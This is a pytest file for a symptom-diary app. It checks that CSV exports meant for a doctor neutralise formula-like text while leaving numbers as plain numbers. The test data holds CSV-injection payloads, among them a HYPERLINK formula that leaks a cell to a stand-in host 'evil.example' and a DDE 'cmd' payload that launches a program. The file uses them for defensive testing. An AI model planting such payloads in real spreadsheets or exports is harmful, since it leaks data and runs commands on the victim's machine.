"""The CSV a doctor opens in a spreadsheet: formula-like text is neutralised, numbers are not.

A spreadsheet treats a cell as a formula when it starts with = + - @, a tab or a carriage
return (OWASP, CSV injection). LibreOffice is not on the test machines, so every cell is
checked the way a spreadsheet would look at it.
"""

from __future__ import annotations

import csv
import io
import stat
from datetime import date
from pathlib import Path

import pytest

from companion import report
from companion.csvio import CSV_COLUMNS, FORMULA_STARTS, TEXT_FIELDS, unneutralise
from companion.entry import SPEC, build_entry
from companion.store import Store
from companion.store.importing import import_csv

TODAY = date(2026, 11, 21)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "=cmd|' /C calc'!A0",
    'plain words, with a comma and "quotes"\nand a second line',
)


# Text the app takes today in both fields: a medicine is one line without tabs, and a
# carriage return in a note becomes a newline.
TYPED = tuple(text for text in HOSTILE if not {"\t", "\r", "\n"} & set(text))


def _seed(store: Store, texts: tuple[str, ...] = HOSTILE) -> None:
    """Entries holding ``texts`` as they are: a diary written before control characters were
    refused may start a note with a tab or a carriage return, and the export still neutralises
    it for a spreadsheet."""
    entries = []
    for n, text in enumerate(texts):
        entry = build_entry(
            {
                "date": f"2026-11-{n + 1:02d}",
                "time": "08:30",
                "pain": str(n % 11),
                "worst_pain": "10",
                "cramps": "0",
                "cramp_minutes": "2.5",
                "weight_kg": "71.4",
                "temperature_c": "36.9",
                "relief": "heat;walking",
            }
        )
        entries.append(entry.with_changes(notes=text, medications=text))
    store.merge(entries)


def _cells(path: Path) -> list[dict[str, str]]:
    text = path.read_bytes().decode("utf-8")  # as written: no newline translation
    assert text.startswith("\ufeff")  # spreadsheets read the file as UTF-8
    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
    assert rows and list(rows[0]) == list(CSV_COLUMNS)
    return rows


def _check_like_a_spreadsheet(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (name, cell)
            if name in TEXT_FIELDS or not cell or name in ("id", "updated"):
                continue
            kind = SPEC[name].kind
            if kind in ("int", "float"):
                float(cell)  # a number stays a plain number, never quoted into text
                assert not cell.startswith("'")
    notes = [unneutralise(row["notes"]) for row in rows]
    assert notes == list(HOSTILE)
    assert [unneutralise(row["medications"]) for row in rows] == list(HOSTILE)
    first = rows[0]
    assert (first["weight_kg"], first["cramp_minutes"], first["pain"]) == ("71.4", "2.5", "0")
    assert first["notes"] == "'" + HOSTILE[0]


@pytest.fixture
def seeded(store: Store) -> Store:
    _seed(store)
    return store


def test_the_apps_export_neutralises_formulas(seeded: Store, tmp_path: Path) -> None:
    target = tmp_path / "diary.csv"
    result = report.export(seeded, date(2026, 11, 1), TODAY, TODAY, csv_path=target, html_path=None)
    assert result.csv_rows == len(HOSTILE)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    _check_like_a_spreadsheet(_cells(target))


def test_the_command_line_export_neutralises_formulas(cli, home: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    with Store.open(home) as store:
        _seed(store)
    target = tmp_path / "diary.csv"
    result = cli("export", "--csv", str(target), "--from", "2026-11-01")
    assert result.code == 0, result.err
    _check_like_a_spreadsheet(_cells(target))


def test_the_csv_imports_back_unchanged(store: Store, tmp_path: Path) -> None:
    """What the doctor was given is what the diary holds: the quote prefix comes off."""
    _seed(store, TYPED)
    target = tmp_path / "diary.csv"
    report.export(store, date(2026, 11, 1), TODAY, TODAY, csv_path=target)
    with Store.open(tmp_path / "other-home") as other:
        import_csv(other, target)
        assert [e.notes for e in other.iter_rows()] == list(TYPED)
        assert [e.medications for e in other.iter_rows()] == list(TYPED)
